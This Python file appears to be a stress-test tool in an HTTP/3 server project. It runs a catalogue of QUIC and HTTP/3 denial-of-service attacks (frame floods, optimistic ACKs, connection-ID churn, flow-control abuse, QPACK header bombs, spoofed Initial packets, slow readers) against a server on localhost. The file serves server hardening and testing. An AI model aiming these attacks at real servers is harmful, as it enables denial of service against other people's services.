# SPDX-License-Identifier: Apache-2.0
"""Clients of QUIC that mean harm, by aioquic's packets and frames of our own. Run by the interpreter of http3_client.py:

    python quic_attacks.py PORT ATTACK SECONDS       one line of JSON

An attack makes a connection, sends its frames as quickly as it can until the connection is ended, and comes again. Told are connections
that were made, those that the server ended, their last error code, and the packets that were sent.
"""
import json
import os
import socket
import ssl
import sys
import time

from aioquic.buffer import encode_uint_var as varint
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, StreamDataReceived
from aioquic.quic.packet import QuicPacketType
from aioquic.tls import Epoch

import http3_frames as h3

PORT, ATTACK, SECONDS = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
SERVER = ("127.0.0.1", PORT)


def request():
    """HEADERS of a GET of /big.bin."""
    section = b"\0\0\xd1\xd7\x50\x09localhost\x51\x08/big.bin"
    return b"\x01" + varint(len(section)) + section


class Attacker:
    def __init__(self, **settings):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        conf = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE, server_name="localhost", **settings)
        self.quic, self.up, self.error, self.packets, self.came, self.asked = QuicConnection(configuration=conf), False, None, 0, 0, 0
        self.reads = True
        self.quic.connect(SERVER, now=time.monotonic())

    def turn(self):
        now = time.monotonic()
        for data, _ in self.quic.datagrams_to_send(now=now):
            self.send(data)
        try:
            while self.reads:
                self.quic.receive_datagram(self.socket.recv(65536), SERVER, now=time.monotonic())
        except OSError:
            pass
        timer = self.quic.get_timer()
        if timer is not None and timer <= now:
            self.quic.handle_timer(now=now)
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, HandshakeCompleted):
                self.up = True
            elif isinstance(event, ConnectionTerminated):
                self.error = event.error_code
            elif isinstance(event, StreamDataReceived):
                self.came += len(event.data)

    def send(self, data):
        self.packets += 1
        try:
            self.socket.sendto(data, SERVER)
        except OSError:
            pass

    def connect(self, until):
        while not self.up and self.error is None and time.monotonic() < until:
            self.turn()
            time.sleep(0.0005)
        for n in range(90):  # what the server answers is of streams that are known
            self.quic._get_or_create_stream_for_send(4 * n).max_stream_data_local = 1 << 40
        return self.up

    def frames(self, frames):
        """A packet of 1-RTT with these frames, whatever window and pacing say."""
        def write(builder, network_path, now):
            builder.max_flight_bytes = None
            builder.start_packet(QuicPacketType.ONE_RTT, self.quic._cryptos[Epoch.ONE_RTT])
            for kind, payload in frames:
                builder.start_frame(kind, capacity=len(payload) + 8).push_bytes(payload)
        usual, self.quic._write_application = self.quic._write_application, write
        try:
            for data, _ in self.quic.datagrams_to_send(now=time.monotonic()):
                self.send(data)
        finally:
            self.quic._write_application = usual
        self.quic._spaces[Epoch.ONE_RTT].sent_packets.clear()


def numbers(*values):
    return b"".join(varint(v) for v in values)


def stream(stream_id, offset, data, fin=False):
    return 0x0E | fin, numbers(stream_id, offset, len(data)) + data


def piece(i, stream_id, data, begin=b"", fin=False):
    """STREAM with the i-th piece of a stream, all of one length, behind its begin."""
    return stream(stream_id, 0, begin + data, fin) if not i else stream(stream_id, len(begin) + i * len(data), data, fin)


def requests(i, n, data, fin=True):
    """n streams of the client's, with the same bytes."""
    return [stream(4 * (n * i + k), 0, data, fin) for k in range(n)]


def allowed_request(a, data):
    """One on a new stream; where the server gave no credit for one yet, something else."""
    if a.asked >= a.quic._remote_max_streams_bidi:
        return [(0x01, b"")]
    a.quic._get_or_create_stream_for_send(4 * a.asked)
    a.asked += 1
    return [stream(4 * (a.asked - 1), 0, data, True)]


def small_pieces(i, stream_id, data, begin):
    """20 pieces of 10 bytes."""
    return [piece(20 * i + n, stream_id, 10 * data, begin) for n in range(20)]


SETTINGS_FIRST = b"\0" + h3.frame(h3.SETTINGS)
NOT_WHOLE = h3.frame(h3.HEADERS, h3.section(*h3.GET[:3]))
# a line of the static table's longest entry, in two bytes: 84 of name and value
BOMB = h3.frame(h3.HEADERS, h3.section(*h3.GET) + 500 * b"\xff\x16")

# frames of the i-th packet of an attack
ATTACKS = {
    "ping": lambda a, i: [(0x01, b"")] * 200,
    "path challenge": lambda a, i: [(0x1A, os.urandom(8))] * 100,
    "ack of what was not sent": lambda a, i: [(0x02, numbers(1 << 20, 0, 0, 0))],
    "optimistic ack": lambda a, i: [stream(0, 0, request(), True)] if not i else [(0x02, numbers(min(4 + i, 4000), 0, 0, min(4 + i, 4000)))],
    "crypto gaps": lambda a, i: [(0x06, numbers(100_000 + 1000 * i, 1) + b"x")],
    "streams beyond the limit": lambda a, i: [stream(4 * (1000 + i), 0, b"x")],
    "new connection ids": lambda a, i: [(0x18, numbers(8 + 20 * i + n, 0) + b"\x08" + os.urandom(24)) for n in range(20)],
    "connection ids that retire others": lambda a, i: [(0x18, numbers(n, n) + b"\x08" + os.urandom(24)) for n in range(9 + 20 * i, 29 + 20 * i)],
    "retired ids": lambda a, i: [(0x19, numbers(i + n)) for n in range(2)],
    "credit that is no more": lambda a, i: [(0x10, numbers(1))] * 200,
    "credit by single bytes": lambda a, i: [stream(0, 0, request(), True)] if not i else [(0x11, numbers(0, 1000 + 30 * i + n)) for n in range(30)],
    "credit of the connection by single bytes": lambda a, i: [(0x10, numbers((1 << 21) + 100 * i + n)) for n in range(100)],
    "reset again and again": lambda a, i: [stream(0, 0, b"x")] if not i else [(0x04, numbers(0, 0x10C, 1))] * 100,
    "stop again and again": lambda a, i: [stream(0, 0, request(), True)] if not i else [(0x05, numbers(0, 0x10C))] * 100,
    "requests, reset at once": lambda a, i: [f for n in range(8) for f in (stream(4 * (8 * i + n), 0, request()), (0x04, numbers(4 * (8 * i + n), 0x10C, len(request()))))],
    "empty stream frames": lambda a, i: [stream(0, 0, b"")] * 200,
    "tiny stream frames": lambda a, i: [stream(0, 1 + 2 * n + 200 * i, b"x") for n in range(100)],
    "blocked": lambda a, i: [(0x14, numbers(i))] * 200,
    "nothing but padding": lambda a, i: [(0x00, bytes(1000))],
    "unknown frames": lambda a, i: [(0x3F, b"")],
    "http/3: frames of unknown types": lambda a, i: [piece(i, 0, 400 * h3.frame(0x21), h3.HEAD)],
    "http/3: DATA without bytes": lambda a, i: [piece(i, 0, 400 * h3.frame(h3.DATA), h3.frame(h3.HEADERS, h3.section(*h3.POST)))],
    "http/3: PRIORITY_UPDATE": lambda a, i: [piece(i, 2, 100 * h3.frame(h3.PRIORITY_UPDATE, b"\0u=1"), SETTINGS_FIRST)],
    "http/3: MAX_PUSH_ID": lambda a, i: [piece(i, 2, 300 * h3.frame(h3.MAX_PUSH_ID, b"\1"), SETTINGS_FIRST)],
    "http/3: malformed requests": lambda a, i: requests(i, 8, NOT_WHOLE),
    "http/3: heads without an end": lambda a, i: [stream(4 * (i % 90), i // 90 * 1000, (b"" if i >= 90 else h3.number(h3.HEADERS) + h3.number(60000) + b"\0\0").ljust(1000, b"x"))],
    "qpack: lines that are long when they are read": lambda a, i: allowed_request(a, BOMB),
    "qpack: sections that wait for a table": lambda a, i: requests(i, 8, h3.frame(h3.HEADERS, b"\2\0\x80")),
    "qpack: a table of 0 bytes, again and again": lambda a, i: small_pieces(i, 6, b"\x20", b"\2"),
    "qpack: streams that are cancelled": lambda a, i: small_pieces(i, 6, b"\x40", b"\3"),
}
SETTINGS = {"credit by single bytes": {"max_stream_data": 1000}, "slow reader": {"max_data": 50_000_000, "max_stream_data": 50_000_000}}


def attack(until):
    told = {"connections": 0, "ended": 0, "error": None, "packets": 0}
    while time.monotonic() < until:
        a = Attacker(**SETTINGS.get(ATTACK, {}))
        if a.connect(until):
            told["connections"] += 1
            for _ in range(3):
                a.turn()
            i = 0
            while a.error is None and time.monotonic() < until:
                a.frames(ATTACKS[ATTACK](a, i))
                i += 1
                if i % 4 == 0 or ATTACK == "ack of what was not sent":
                    a.turn()
        a.turn()
        told["ended"] += a.error is not None
        told["error"] = a.error if a.error is not None else told["error"]
        told["packets"] += a.packets
        a.socket.close()
    return told


def handshakes(until):
    """First packets of clients that are not there."""
    told, sockets = {"connections": 0, "ended": 0, "error": None, "packets": 0, "retries": 0}, [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(20)]
    while time.monotonic() < until:
        conf = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE)
        quic = QuicConnection(configuration=conf)
        quic.connect(SERVER, now=0)
        data = quic.datagrams_to_send(now=0)[0][0]
        for s in sockets:  # another id each: the packet need not be one that can be read
            s.sendto(data[:6] + os.urandom(8) + data[14:], SERVER)
            told["packets"] += 1
        for s in sockets:
            try:
                while True:
                    told["retries"] += s.recv(65536, socket.MSG_DONTWAIT)[0] & 0xF0 == 0xF0
            except OSError:
                pass
    return told


def connections(until):
    """Handshakes of clients that are there, that ask for nothing and do not say that they go."""
    told = {"connections": 0, "ended": 0, "error": None, "packets": 0}
    while time.monotonic() < until:
        a = Attacker()
        told["connections"] += a.connect(until)
        a.turn()
        told["packets"] += a.packets
        a.socket.close()
    return told


def migrations(until):
    """Each packet from another port."""
    told = {"connections": 0, "ended": 0, "error": None, "packets": 0}
    while time.monotonic() < until:
        a = Attacker()
        if a.connect(until):
            told["connections"] += 1
            for _ in range(20):
                a.turn()
                time.sleep(0.001)
            first, i = a.socket, 0
            while a.error is None and time.monotonic() < until and i < 400:
                a.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                a.socket.setblocking(False)
                a.frames([(0x01, b"")])
                a.turn()
                i += 1
                if a.socket is not first:
                    a.socket.close()
            a.socket = first
        told["ended"] += a.error is not None or i < 400
        told["packets"] += a.packets
    return told


def slow_readers(until):
    """Files of 1 MiB on 20 streams each, with wide windows, that are not acknowledged."""
    all_of_them = []
    while time.monotonic() < until:
        if len(all_of_them) < 20:
            a = Attacker(**SETTINGS["slow reader"])
            if a.connect(until):
                for _ in range(3):
                    a.turn()
                a.frames([stream(4 * n, 0, request(), True) for n in range(20)])
                a.reads = False
            all_of_them.append(a)
        time.sleep(0.02)
    return {"connections": len(all_of_them), "ended": 0, "error": None, "packets": 0}


OTHERS = {"first packets": handshakes, "handshakes": connections, "migrations": migrations, "slow reader": slow_readers}
if __name__ == "__main__":
    if ATTACK == "list":
        print(json.dumps([*ATTACKS, *OTHERS]))
    else:
        print(json.dumps(OTHERS.get(ATTACK, attack)(time.monotonic() + SECONDS)))
